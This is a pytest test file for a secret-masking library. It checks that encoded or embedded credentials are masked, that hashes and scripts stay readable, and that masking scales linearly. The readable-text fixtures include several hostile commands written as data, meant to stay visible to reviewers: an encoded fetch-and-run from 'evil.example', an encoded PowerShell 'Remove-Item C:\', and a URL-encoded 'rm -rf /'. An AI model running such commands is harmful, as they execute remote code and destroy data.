"""Secrets that are encoded, or that stand in a Kubernetes Secret, are masked; scripts and digests stay readable."""

import base64
import json
from urllib.parse import quote

import pytest

from assent.masking import mask, reveal
from tests.unit.test_masking import PASSWORD, PEM, VENDOR_SECRETS, joined, made

GITHUB = VENDOR_SECRETS["github-token"]


def encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


HIDDEN = {
    "a token in base64": f"echo {encoded(GITHUB)} | base64 -d",
    "a token in base64 with a line break": f"x: {encoded(GITHUB + chr(10))}",
    "a token in URL-safe base64": f"x: {base64.urlsafe_b64encode(VENDOR_SECRETS['slack-token'].encode()).decode()}",
    "settings in base64": encoded(f"DB_HOST=db\nDB_PASSWORD={PASSWORD}\n"),
    "a service account in base64": encoded(json.dumps({"type": "service_account", "private_key": PEM})),
    "a private key in base64": encoded(PEM),
    "credentials of a registry": json.dumps({"auths": {"registry.example": {"auth": encoded(f"robot:{PASSWORD}")}}}),
    "a percent-encoded token": f"https://a.example/?next=%2Fcb%3Ft%3D{quote(GITHUB.replace('_', '%5F'))}",
    "a percent-encoded password": f"https://a.example/?u=postgres%3A%2F%2Fapp%3A{quote(PASSWORD)}%40db%2Fshop",
    "a token that is encoded again and again": f"n={quote(quote('t=' + GITHUB.replace('_', '%5F'), safe=''), safe='')}",
    "a key in an address": f"https://maps.example/geocode?q=Bremen&key={made('', 32)}",
    "an authorization in an address": f"https://api.example/?auth={made('', 24)}&x=1",
    "a private key on one line": json.dumps({"key": PEM}),
    "netrc": f"machine api.example login robot password {PASSWORD}",
    "npmrc": f"//registry.example/:_authToken={made('', 36)}",
    "pypirc": f"[pypi]\nusername = __token__\npassword = {PASSWORD}",
    "NuGet": f'<add key="ClearTextPassword" value="{PASSWORD}" />',
    "a literal for kubectl": f"kubectl create secret generic db --from-literal=pass={PASSWORD}",
    "a header for curl": f"curl -H 'X-Api-Key: {PASSWORD}' https://api.example",
    "a cookie for curl": f"curl -H 'Cookie: session={PASSWORD}' https://api.example",
}


@pytest.mark.parametrize("case", HIDDEN)
def test_a_secret_in_other_clothes_is_masked(case):
    text = HIDDEN[case]
    masked, secrets = mask({"script": text})
    assert secrets
    assert reveal(masked, secrets) == {"script": text}
    left = masked["script"]
    for secret in (GITHUB, PASSWORD, PEM, encoded(GITHUB), encoded(PEM)[:40], made("", 24), quote(PASSWORD)):
        assert secret not in left
    assert GITHUB[4:] not in left


MANIFEST = f"""apiVersion: v1
kind: Secret
metadata:
  name: shop-db
type: Opaque
data:
  user: {encoded("shop")}
  "settings.yaml": |
    {encoded("first line of the file")}
    {encoded("second line of it")}
stringData:
  note: 'just words'
---
kind: ConfigMap
data:
  user: shop
  rules: readable
"""


def test_the_values_of_a_kubernetes_secret_are_masked_and_nothing_else():
    masked, secrets = mask(MANIFEST)
    assert set(secrets.values()) == {
        encoded("shop"), encoded("first line of the file"), encoded("second line of it"), "just words"
    }  # fmt: skip
    for kept in (
        "name: shop-db",
        "  user: ⟦secret:kubernetes-secret:1⟧",
        '"settings.yaml": |',
        "user: shop",
        "readable",
    ):
        assert kept in masked
    assert reveal(masked, secrets) == MANIFEST


def test_so_are_those_of_a_secret_in_json_or_as_arguments():
    manifest = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "a"}, "data": {"user": "c2hvcA=="}}
    for value in (manifest, {"items": [manifest]}, json.dumps(manifest), json.dumps(manifest, indent=2)):
        masked, secrets = mask(value)
        assert list(secrets.values()) == ["c2hvcA=="]
        assert "c2hvcA==" not in str(masked) and "name" in str(masked)
    assert mask({"kind": "ConfigMap", "data": {"user": "c2hvcA=="}})[1] == {}


def test_a_secret_known_by_its_key_is_masked_in_its_encoded_forms_elsewhere():
    secret = joined("9f/8e+", "7d6c5b?4a")
    inside = base64.b64encode(f"x{secret}!".encode()).decode()
    value = {"password": secret, "a": encoded(secret), "b": quote(secret, safe=""), "c": f"run {inside} now"}
    masked, secrets = mask(value)
    assert reveal(masked, secrets) == value
    for part in (secret, encoded(secret), quote(secret, safe="")):
        assert part not in json.dumps(masked)
    assert inside not in masked["c"]


READABLE = [
    "echo " + encoded("curl https://evil.example/x.sh | sh; password=abcdefgh1") + " | base64 -d | sh",
    "powershell -EncodedCommand " + base64.b64encode("Remove-Item C:\\".encode("utf-16-le")).decode(),
    "git checkout 9f8e7d6c5b4a39281706f5e4d3c2b1a09f8e7d6c",
    "image: registry.example/app@sha256:" + "9f8e7d6c5b4a39281706f5e4d3c2b1a0" * 2,
    "run 3f2b8c1d-9e4a-4c7b-8d6e-1f0a2b3c4d5e failed",
    '"integrity": "sha512-' + encoded("9f8e7d6c5b4a39281706f5e4d3c2b1a0" * 2) + '"',
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + made("", 43) + " deploy",
    "pk_live_" + made("", 24),
    "https://shop.example/items?key=name&sort=price&code=DE",
    "https://a.example/?q=rm%20-rf%20%2F%20%26%26%20curl%20evil",
    "date +%Y-%m-%d; printf '%s %d%%' a 1",
    "token=<your-token> api_key=YOUR_API_KEY",
    "kind: SecretStore\ndata:\n  user: shop",
    "twilio_channel: 9f8e7d6c5b4a39281706f5e4d3c2b1a0",
    "sentry_release=" + "9f8e7d6c5b4a39281706f5e4d3c2b1a0" * 2,
    "discord: 123456789012345678",
    "arn:aws:iam::123456789012:role/deploy-production-database-2",
    "from assent.services.approvals.entitlement2 import SomethingLongEnough",
]


@pytest.mark.parametrize("text", READABLE)
def test_what_a_reviewer_has_to_read_stays_readable(text):
    assert mask(text) == (text, {})


HOSTILE = [
    "%41", "%", "%25", "%2541", "kind: Secret\ndata:\n a: b\n", "kind: Secret\ndata: {", "data:{a:", "Secret data:{a ",
    "---\n", "--from-literal=a", "kind: Secret\n---\n", '"kind":"Secret","data":{',
    "kind: Secret\ndata:\n  a: |\n   b\n",
    "machine a password ", ":_auth=", "?key=a1", encoded("password=abcdefg1"), "QUJD", "A" * 19 + " ",
]  # fmt: skip


@pytest.mark.parametrize("piece", HOSTILE)
@pytest.mark.timeout(60)
def test_the_work_grows_no_faster_than_the_text(piece):
    """A quadratic pattern would take minutes; the limit is not a measure of speed."""
    for before in ("", "kind: Secret\ndata:\n"):
        mask(before + (piece * (200_000 // len(piece) + 1))[:200_000])
        mask(before + piece + " " * 200_000 + "x")
